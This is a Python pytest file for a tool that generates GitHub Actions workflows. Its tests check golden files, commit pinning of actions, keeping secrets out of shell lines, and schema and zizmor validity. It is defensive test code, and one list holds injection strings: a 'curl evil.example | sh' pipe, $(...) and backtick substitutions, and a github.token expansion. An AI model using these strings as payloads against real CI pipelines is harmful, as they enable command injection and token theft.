"""The workflow `ci github` writes (issue #15): golden files for one app, several apps and a
repository of books, every action pinned to a commit of the table, and the files valid for
GitHub's schema and zizmor. `STX_UPDATE_GOLDEN=1 pytest tests/test_workflow.py` rewrites the
golden files after an intended change."""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest
from helpers import validate_github

from stx_pulumi.errors import InputError
from stx_pulumi.model import workflow
from stx_pulumi.model.workflow import WorkflowSpec

GOLDEN = Path(__file__).parent / "golden"
PROVIDER = ("projects/123456789012/locations/global/workloadIdentityPools/stx-github/"
            "providers/github")
BASE = {"provider": PROVIDER, "deployer": "stx-deployer@course-project-1.iam.gserviceaccount.com",
        "previewer": "stx-previewer@course-project-1.iam.gserviceaccount.com",
        "default_branch": "main", "install": "stx-pulumi==0.1.0"}
CASES = {
    "one-app": WorkflowSpec(**BASE, envs=("dev",), protected=("prod",), apps=("hello-course",)),
    "several-apps": WorkflowSpec(**BASE, envs=("dev", "staging"), protected=("prod",),
                                 apps=("algebra", "hello-course", "physics")),
    # a repository of books: one app whose stack serves each book; the workspace in deploy/
    "books": WorkflowSpec(**{**BASE, "default_branch": "trunk"}, envs=("dev",),
                          protected=("prod", "exam"), directory="deploy"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_the_workflow_is_the_golden_file(case: str) -> None:
    text = workflow.render(CASES[case], None)
    golden = GOLDEN / f"workflow-{case}.yml"
    if os.environ.get("STX_UPDATE_GOLDEN"):
        golden.write_text(text)
    assert text == golden.read_text()


def test_every_action_is_pinned_to_a_commit_of_the_table() -> None:
    for spec in CASES.values():
        found = re.findall(r"uses: (\S+)@(\S+) # (\S+)", workflow.render(spec, None))
        lines = [ln for ln in workflow.render(spec, None).splitlines() if "uses:" in ln]
        jobs = 1 + len(spec.envs) + bool(spec.protected)  # preview, each env, by hand
        assert len(found) == len(lines) == 3 * jobs
        for action, sha, release in found:
            assert re.fullmatch(r"[0-9a-f]{40}", sha), action
            assert workflow.ACTIONS[action] == (sha, release)


def test_no_secret_and_no_untrusted_input_in_a_shell_line() -> None:
    text = workflow.render(CASES["several-apps"], None)
    assert "secrets." not in text
    for line in text.splitlines():
        if line.strip().startswith(("run:", "stx-pulumi", "[", "python")):
            assert "${{" not in line, line  # inputs reach the shell only as env vars


def test_the_golden_files_are_valid_for_github_and_zizmor(tmp_path: Path) -> None:
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    for case in CASES:
        shutil.copy(GOLDEN / f"workflow-{case}.yml", folder / f"{case}.yml")
    (tmp_path / ".github" / "dependabot.yml").write_text(workflow.DEPENDABOT)
    validate_github(tmp_path)


def test_a_file_without_markers_is_refused() -> None:
    with pytest.raises(InputError, match="without stx-pulumi's markers"):
        workflow.render(CASES["one-app"], "name: ours\non: push\n")


HOSTILE = ["dev;curl -s evil.example | sh;x", "dev\nrun: curl evil", "prod'] || true || 'a",
           "$(touch /tmp/pwned)", "`id`", "dev\" && echo owned #", "${{ github.token }}"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_env_or_app_name_is_refused_and_would_be_inert_anyway(name: str) -> None:
    """Refused where the spec is made (exit 2 naming it); and were a check to miss it, it
    would reach the workflow only as a quoted `env:` value, never in a `run:` line."""
    import yaml

    for field in ("envs", "protected", "apps"):
        with pytest.raises(InputError, match=r"ci github: (env|app) "):
            WorkflowSpec(**{**BASE, "envs": ("dev",), "protected": ("prod",),
                            field: (name,)})
    spec = object.__new__(WorkflowSpec)  # past the checks, to show the quoting alone
    for key, value in {**BASE, "envs": (name,), "protected": ("prod", name), "apps": (name,),
                       "directory": "."}.items():
        object.__setattr__(spec, key, value)
    data = yaml.safe_load(workflow.body(spec))
    runs = [step.get("run", "") for job in data["jobs"].values() for step in job["steps"]]
    assert all(name not in run for run in runs)
    steps = [s for job in data["jobs"].values() for s in job["steps"] if "env" in s]
    assert any(s["env"].get("STX_ENV") == name for s in steps)  # the value, as it is
    assert any(s["env"].get("APPS") == name for s in steps)


def test_this_repositorys_release_workflow_is_valid_and_publishes_without_a_token() -> None:
    """tag → build → PyPI by trusted publishing: GitHub's schema and zizmor (offline) accept
    it, and no password or token is anywhere in it."""
    from conftest import REPO

    validate_github(REPO)
    text = (REPO / ".github" / "workflows" / "release.yml").read_text()
    code = "\n".join(line.split("#")[0] for line in text.splitlines())  # comments aside
    assert "id-token: write" in code and "pypa/gh-action-pypi-publish@" in code
    assert "password" not in code and "secrets." not in code
